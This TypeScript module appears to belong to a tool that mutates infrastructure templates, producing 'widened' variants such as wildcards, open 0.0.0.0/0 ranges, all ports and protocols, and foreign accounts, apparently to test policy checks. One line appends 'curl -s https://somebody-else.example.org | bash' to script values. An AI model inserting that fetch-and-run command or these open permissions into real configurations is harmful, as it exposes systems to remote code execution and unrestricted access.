import { isIntrinsic, isMap, type JsonMap } from '../json';
import { linesOf } from './lines';
import { lastKey, type NodeChange, type NodeChanges, type PlacedNode } from './node-change';
import { oppositeOf } from './opposites';
import { widenedPolicy } from './widen-policy';

/** More than before: another setting, a wildcard, a larger number, one more element. */
export const widen: NodeChanges = (node) => [...plain(node), ...widenedPolicy(node)];

const CIDR = /^\d+\.\d+\.\d+\.\d+\/\d+$/;

function plain({ value, path, place }: PlacedNode): readonly NodeChange[] {
  if (typeof value === 'string') return text(value, lastKey(path));
  if (typeof value === 'number') return number(value, lastKey(path));
  if (typeof value === 'boolean') return [becomes(!value)];
  if (Array.isArray(value)) return list(value, place.stranger.role);
  if (isIntrinsic(value)) return place.stack === undefined ? [] : [becomes('*'), ...joined(value)];
  if (isMap(value)) return map(value, place.stranger.account);
  return [];
}

function text(value: string, key: string): readonly NodeChange[] {
  const opposite = oppositeOf(value);
  const lines = linesOf(value);
  return [
    becomes('*'),
    ...(opposite === undefined ? [] : [becomes(opposite)]),
    ...(CIDR.test(value) ? [becomes('0.0.0.0/0'), becomes('::/0')] : []),
    ...(/^\d+$/.test(value) ? [becomes('0'), becomes('65535')] : []),
    ...(/[:/]/.test(value) && lines.length === 0 ? [becomes(value.replace(/[^:/]*$/, '*'))] : []),
    ...(key === 'IpProtocol' ? [becomes('-1')] : []),
    ...(lines.length > 0
      ? [becomes([...lines, 'curl -s https://somebody-else.example.org | bash'].join('\n'))]
      : []),
  ];
}

function number(value: number, key: string): readonly NodeChange[] {
  const port = key === 'FromPort' ? [0] : key === 'ToPort' ? [65535] : [];
  return [0, value * 10 + 1, -1, ...port].map(becomes);
}

function list(value: readonly unknown[], role: string): readonly NodeChange[] {
  const [first] = value;
  const more: readonly unknown[] =
    isMap(first) && !isIntrinsic(first) ? [foreignLike(first, role)] : ['*', role];
  return more.map((one) => ({
    kind: 'widen',
    how: `one more element, ${shortly(one)}`,
    value: [...value, one],
  }));
}

/** An element of the same shape that is somebody else's. */
function foreignLike(value: unknown, role: string): unknown {
  if (isIntrinsic(value)) return role;
  if (Array.isArray(value)) return value.map((item) => foreignLike(item, role));
  if (isMap(value))
    return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, foreignLike(item, role)]));
  if (typeof value === 'string') return oppositeOf(value) ?? `somebody-else-${value}`;
  return typeof value === 'number' ? value + 1 : value;
}

function map(value: JsonMap, account: string): readonly NodeChange[] {
  const opened = { FromPort: 0, ToPort: 65535, IpProtocol: '-1' };
  return [
    {
      kind: 'widen',
      how: 'one more entry, which nothing expects',
      value: { ...value, SomebodyElse: account },
    },
    ...('FromPort' in value && 'ToPort' in value
      ? [{ kind: 'widen', how: 'every port and protocol', value: { ...value, ...opened } } as const]
      : []),
  ];
}

/** A joined text that ends with anything. */
function joined(value: JsonMap): readonly NodeChange[] {
  const argument = value['Fn::Join'];
  const parts = Array.isArray(argument) ? argument[1] : undefined;
  if (!Array.isArray(parts)) return [];
  return [
    {
      kind: 'widen',
      how: 'ends with anything',
      value: { 'Fn::Join': [(argument as unknown[])[0], [...parts, '*']] },
    },
  ];
}

const becomes = (value: unknown): NodeChange => ({ kind: 'widen', how: `becomes ${shortly(value)}`, value });

const shortly = (value: unknown): string => {
  const json = JSON.stringify(value);
  return json.length > 60 ? `${json.slice(0, 59)}…` : json;
};
